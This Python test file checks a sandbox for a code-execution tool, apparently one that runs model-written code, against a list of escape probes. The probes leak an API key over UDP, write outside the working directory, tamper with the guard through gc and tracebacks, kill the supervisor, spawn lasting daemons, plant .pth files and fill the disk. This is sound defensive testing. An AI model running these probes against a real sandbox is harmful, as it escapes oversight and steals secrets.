"""Escape probes against PythonExecute: what model-written code tries, and what must come of it.

Each probe is code an attacker would hand the tool, and a check on the host afterwards (a file
outside the working directory, a datagram on the host's loopback, a process still alive, a key
in the output). Under bubblewrap every probe is refused. The unsafe guard (only when asked for by
name) loses the probes listed in ``GUARD_LOSES`` (and in ``docs/sandbox.md``'s table) — the test
fails if that list stops being exact.
"""

from __future__ import annotations

import os
import socket
import sys
import sysconfig
from dataclasses import dataclass
from pathlib import Path

import pytest

from metaroles.agents.sandbox import PythonExecute

SECRET = "sk-probe-parent-secret"
PYTHON = os.path.realpath(sys.executable)
PURELIB = sysconfig.get_paths()["purelib"]

GUARD_LOSES = frozenset(
    {
        "fork_exec_writes_outside",
        "mkfifo",
        "mknod_outside",
        "pth_through_a_directory_descriptor",
        "disk_filled_in_files_under_the_cap",
    }
)
"""Probes the in-process guard cannot refuse: ``_posixsubprocess.fork_exec``, ``os.mkfifo`` and ``os.mknod``
raise no audit event (a process spawned that way runs without the hook); ``os.open``'s event does not
carry its ``dir_fd``; the file-size cap is per file."""
BUBBLEWRAP_LOSES = frozenset({"disk_filled_in_files_under_the_cap"})
"""The working directory is the host's folder: files each under the cap still fill its disk."""

_FORK_EXEC = """
import _posixsubprocess, os, sys
def spawn(argv, setsid=True):
    r, w = os.pipe()
    args = [[a.encode() for a in argv], [argv[0].encode()], True, (), None, None,
            -1, -1, -1, -1, -1, -1, r, w, False, setsid, -1, None, None, None, -1, None, False]
    return _posixsubprocess.fork_exec(*args)
"""


@dataclass(frozen=True)
class Probe:
    name: str
    code: str  # formatted with outside=, marker=, python=, port=
    seconds: float = 10.0  # the call's timeout

    def source(self, **values: object) -> str:
        return self.code.format(**values)


PROBES = [
    Probe("key_in_environment", "import os\nprint(os.environ.get('OPENAI_API_KEY'), dict(os.environ))"),
    Probe(
        "key_over_udp",
        "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(('leak:' + str(os.environ.get('OPENAI_API_KEY'))).encode(), ('127.0.0.1', {port}))",
    ),
    Probe("dns_lookup", "import socket\nprint('resolved', socket.getaddrinfo('example.com', 80))"),
    Probe("child_writes_outside", "import subprocess\nsubprocess.run(['sh', '-c', 'echo x > {outside}/escape'])"),
    Probe(
        "open_dir_fd",
        "import os\nfd = os.open('{outside}', os.O_RDONLY)\nos.open('escape', os.O_CREAT | os.O_WRONLY, dir_fd=fd)",
    ),
    Probe("mkdir_dir_fd", "import os\nfd = os.open('{outside}', os.O_RDONLY)\nos.mkdir('escape', dir_fd=fd)"),
    Probe(
        "rename_dir_fd",
        "import os\nopen('mine', 'w').write('x')\nfd = os.open('{outside}', os.O_RDONLY)\n"
        "os.rename('mine', 'escape', dst_dir_fd=fd)",
    ),
    Probe("sqlite_connect", "import sqlite3\nsqlite3.connect('{outside}/escape').execute('create table t(a)')"),
    Probe(
        "sqlite_attach",
        "import sqlite3\ndb = sqlite3.connect(':memory:')\n"
        "db.execute(\"attach database '{outside}/escape' as x\")\ndb.execute('create table x.t(a)')",
    ),
    Probe("mkfifo", "import os\nos.mkfifo('{outside}/escape')"),
    Probe("utime", "import os\nos.utime('{outside}/victim.txt', (0, 0))"),
    Probe("setxattr", "import os\nos.setxattr('{outside}/victim.txt', 'user.escape', b'1')"),
    Probe("list_outside", "import os\nprint('listed:', os.listdir('/'))\nprint('listed:', os.listdir('{outside}'))"),
    Probe("fork_exec_writes_outside", _FORK_EXEC + "spawn(['/bin/sh', '-c', 'echo x > {outside}/escape'])\nos.wait()"),
    Probe(
        "multiprocessing_writes_outside",
        "import multiprocessing as mp\n"
        "def write():\n    open('{outside}/escape', 'w').write('x')\n"
        "if __name__ == '__main__':\n    mp.set_start_method('fork')\n    p = mp.Process(target=write)\n"
        "    p.start()\n    p.join()",
    ),
    Probe(
        "guard_globals_tampered",
        "import sys\nsys.modules['__main__'].root = '/'\nsys.modules['__main__'].readable = ('/',)\n"
        "open('{outside}/escape', 'w').write('x')",
    ),
    Probe(
        "guard_code_swapped",
        "import gc\nfor f in gc.get_objects():\n"
        "    if getattr(f, '__name__', '') == 'guard':\n        f.__code__ = (lambda *a, **k: None).__code__\n"
        "open('{outside}/escape', 'w').write('x')",
    ),
    Probe(
        "read_outside_through_ctypes",  # /proc/<the tool's pid>/environ, say: the key it started with
        "import sys\nctypes = sys.modules.get('ctypes') or __import__('ctypes')\nlibc = ctypes.pythonapi\n"
        "fd = libc.open(b'{outside}/victim.txt', 0)\nbuf = ctypes.create_string_buffer(100)\n"
        "print('read:', buf.raw[: max(0, libc.read(fd, buf, 100))])",
    ),
    Probe(
        "guard_state_cleared_through_a_traceback",
        "import os\nopen('mine', 'w').write('x')\ntry:\n    os.rename('mine', '{outside}/escape')\n"
        "except PermissionError as e:\n    tb = e.__traceback__\n    while tb.tb_next:\n        tb = tb.tb_next\n"
        "    for value in tb.tb_frame.f_locals.values():\n        getattr(value, 'clear', lambda: 0)()\n"
        "os.rename('mine', '{outside}/escape')",
    ),
    Probe(
        "supervisor_killed_so_the_code_outlives_the_tool",
        "import os, signal\nopen('pid', 'w').write(str(os.getpid()))\n"
        "signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)\nwhile True: pass",
        seconds=4.0,  # bubblewrap's init ignores the kill: the code loops until the deadline
    ),
    Probe(
        "pth_planted_by_zeroing_the_flags",
        "import os\nos.O_WRONLY = os.O_RDWR = os.O_CREAT = os.O_APPEND = os.O_TRUNC = 0\n"
        "os.close(os.open('{purelib}/zz_metaroles_probe_{marker}.pth', 0o101))",
    ),
    Probe(
        "daemon_outlives_the_tool",
        _FORK_EXEC + "spawn(['{python}', '-c', 'import os  # {marker}\\nwhile True: os.getpid()'])\nprint('spawned')",
    ),
    Probe("disk_filled", "f = open('fill', 'wb')\nfor _ in range(200):\n    f.write(b'x' * 1_048_576)"),
    Probe("mknod_outside", "import os, stat\nos.mknod('{outside}/escape', 0o600 | stat.S_IFREG)"),
    Probe(
        "pth_through_a_directory_descriptor",
        "import os\nfd = os.open('{purelib}', os.O_RDONLY)\n"
        "os.close(os.open('zz_metaroles_probe_{marker}.pth', os.O_CREAT | os.O_WRONLY, dir_fd=fd))",
    ),
    Probe("list_the_root", "import os\nprint('listed:', sorted(os.listdir(os.open('/', os.O_RDONLY))))"),
    Probe(
        "disk_filled_in_files_under_the_cap",
        "for n in range(4):\n    with open(f'fill{{n}}', 'wb') as f:\n        for _ in range(7):\n"
        "            f.write(b'x' * 1_048_576)",
    ),
]


def _alive(marker: str) -> list[int]:
    """Host pids whose command line holds ``marker`` and which are not zombies."""
    found = []
    for entry in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if marker.encode() in cmdline and state != "Z":
            found.append(int(entry))
    return found


def _running(pid: int) -> bool:
    try:
        return pid > 0 and Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


def escaped(
    name: str, output: str, outside: Path, workdir: Path, udp: socket.socket, marker: str, kind: str
) -> str | None:
    """What the probe achieved on the host, or ``None`` when it was refused."""
    return _changed_outside(outside) or _leaked(output, udp) or _left_behind(workdir, marker, kind)


def _changed_outside(outside: Path) -> str | None:
    if "escape" in {p.name for p in outside.iterdir()}:
        return f"created {outside / 'escape'}"
    victim = outside / "victim.txt"
    if victim.stat().st_mtime < 1_000_000:
        return "changed the mtime of a file outside"
    if os.listxattr(victim):
        return "set an xattr on a file outside"
    return None


def _leaked(output: str, udp: socket.socket) -> str | None:
    if SECRET in output:
        return "read the parent's key"
    if "keep me" in output:
        return "read a file outside the working directory"
    try:
        return f"sent {udp.recv(100)!r} to the host's loopback"
    except BlockingIOError:
        pass
    if "resolved" in output:
        return "resolved a host name"
    if "listed:" in output and ("victim.txt" in output or "'var'" in output):
        return "listed folders outside the working directory"
    return None


def _left_behind(workdir: Path, marker: str, kind: str) -> str | None:
    """A process still running, a .pth in site-packages, a file past the size limit.

    (A pid the code wrote under bubblewrap is its sandbox's, not the host's: the namespace's end is
    checked by ``daemon_outlives_the_tool``.)
    """
    if _alive(marker):
        return "left a process running after the tool returned"
    if kind != "bubblewrap" and (workdir / "pid").exists() and _running(int((workdir / "pid").read_text() or 0)):
        return "its own process outlived the tool"
    if _planted(marker):
        return "planted a .pth file in site-packages"
    fill = workdir / "fill"
    if fill.exists() and fill.stat().st_size > 8 * 1024 * 1024:
        return f"wrote a {fill.stat().st_size}-byte file"
    written = sum(p.stat().st_size for p in workdir.glob("fill?"))
    if written > 8 * 1024 * 1024:
        return f"wrote {written} bytes in files each under the cap"
    return None


def _planted(marker: str, *, remove: bool = False) -> list[Path]:
    found = list(Path(PURELIB).glob(f"zz_metaroles_probe_{marker}.pth"))
    for path in found if remove else ():
        path.unlink()
    return found


@pytest.fixture
def udp():
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.setblocking(False)
    yield listener
    listener.close()


@pytest.mark.filterwarnings("ignore::metaroles.agents.sandbox.SandboxWarning")
@pytest.mark.parametrize("kind", ["bubblewrap", "unsafe-guard"])
@pytest.mark.parametrize("probe", PROBES, ids=[p.name for p in PROBES])
async def test_the_probe_is_refused(tmp_path, monkeypatch, udp, probe, kind):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    outside, workdir = tmp_path / "outside", tmp_path / "work"
    outside.mkdir()
    (outside / "victim.txt").write_text("keep me")
    marker = f"metaroles-probe-{tmp_path.name}-{kind}"
    tool = PythonExecute(workdir=workdir, timeout=10, memory_mb=512, file_mb=8, isolation=kind)
    code = probe.source(outside=outside, marker=marker, python=PYTHON, port=udp.getsockname()[1], purelib=PURELIB)
    try:
        result = await tool(code=code, timeout=probe.seconds)
        achieved = escaped(probe.name, str(result.output) + str(result.error), outside, workdir, udp, marker, kind)
    finally:
        _planted(marker, remove=True)
    loses = GUARD_LOSES if kind == "unsafe-guard" else BUBBLEWRAP_LOSES
    if probe.name in loses:
        assert achieved, f"{kind} now refuses {probe.name}: take it off its list and docs/sandbox.md's table"
    else:
        assert achieved is None, f"{probe.name} escaped under {kind}: {achieved}\n{result}"
    if probe.name == "daemon_outlives_the_tool":
        assert "spawned" in result.output, f"the probe did not run: {result}"


async def test_a_pth_file_cannot_reach_site_packages(tmp_path):
    """Under bubblewrap the installation is read-only, even through a directory descriptor."""
    purelib = Path(sysconfig.get_paths()["purelib"])
    target = purelib / f"zz_metaroles_probe_{tmp_path.name}.pth"
    tool = PythonExecute(workdir=tmp_path / "work", isolation="bubblewrap")
    code = f"import os\nfd = os.open({str(purelib)!r}, os.O_RDONLY)\n"
    code += f"os.open({target.name!r}, os.O_CREAT | os.O_WRONLY, dir_fd=fd)"
    try:
        result = await tool(code=code)
        assert "Read-only file system" in result.error and not target.exists()
    finally:
        target.unlink(missing_ok=True)


@pytest.mark.filterwarnings("ignore::metaroles.agents.sandbox.SandboxWarning")
async def test_the_timeout_kills_every_process_of_the_call(tmp_path):
    marker = f"metaroles-probe-timeout-{tmp_path.name}"
    for kind in ("bubblewrap", "unsafe-guard"):
        tool = PythonExecute(workdir=tmp_path / kind, timeout=1, isolation=kind)
        code = _FORK_EXEC + f"spawn([{PYTHON!r}, '-c', 'while True: pass  # {marker}'])\nwhile True: pass"
        result = await tool(code=code)
        assert result.error.startswith("timed out after 1s")
        assert _alive(marker) == [], f"{kind}: a process outlived the timeout"
